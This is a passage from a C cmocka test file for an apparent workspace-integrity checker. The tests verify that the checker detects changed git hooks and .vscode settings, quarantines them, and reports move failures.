	write_file(W(f, ".git/hooks/post-merge"), "#!/bin/sh\n", 0755);
	char deep[PATH_MAX];
	strcpy(deep, W(f, ".vscode"));
	for (int i = 0; i < 70; i++)
		strcat(deep, "/d");
	mkdir_p(deep);
	char q[PATH_MAX];
	strcpy(q, J(area, "/quarantine"));
	check(f, &s, q, &v);
	assert_int_equal(v.n, 2);
	const struct violation *h = find(&v, W(f, ".git/hooks"));
	assert_string_equal(h->what, "changed");
	assert_true(strncmp(h->moved_to, q, strlen(q)) == 0);
	assert_int_equal(mode_of(J(h->moved_to, "/post-merge")) & 07777, 0755);
	assert_false(exists(W(f, ".git/hooks")));
	const struct violation *vs = find(&v, W(f, ".vscode"));
	assert_null(vs->moved_to);
	assert_true(strncmp(vs->what, "changed (cannot read it now: ", 29) == 0);
	assert_non_null(strstr(vs->what, "(could not move: "));
	assert_true(exists(deep));
	assert_true(exists(W(f, ".vscode/settings.json")));
	/* no partial copy left: <stamp>/<ws>/.vscode does not exist */
	char partial[PATH_MAX];
	strcpy(partial, h->moved_to);
	strcpy(strstr(partial, "/.git/hooks"), "/.vscode");
	assert_false(exists(partial));
	violations_free(&v);
	snapshot_free(&s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sha256_vectors),
		cmocka_unit_test(test_sha256_million_a),
#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, teardown)
		T(test_unchanged_tree),
		T(test_file_changed),
		T(test_mode_changed),
		T(test_file_replaced_by_identical_copy),
		T(test_new_file_appeared),
		T(test_new_hook_moves_whole_dir),
		T(test_symlink_retargeted),
		T(test_removed_path),
		T(test_git_dir_became_file),
		T(test_git_dir_became_symlink),
		T(test_git_contents_changed_is_fine),
		T(test_git_file_pointer_changed),
		T(test_git_rebuilt_moves_once),
		T(test_quarantine_layout),
		T(test_two_checks_same_second),
		T(test_symlink_in_dir_not_followed),
		T(test_planted_parent_symlink),
		T(test_ancestors_once_a_pass),
		T(test_move_failure_reported),
		T(test_depth_limit),
		T(test_entry_limit),
		T(test_relative_path_rejected),
		T(test_copy_tree),
		T(test_copy_refuses_existing_destination),
		T(test_copy_keeps_holes),
		T(test_copy_cap_renames_in_place),
		T(test_check_across_filesystems),
#undef T
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
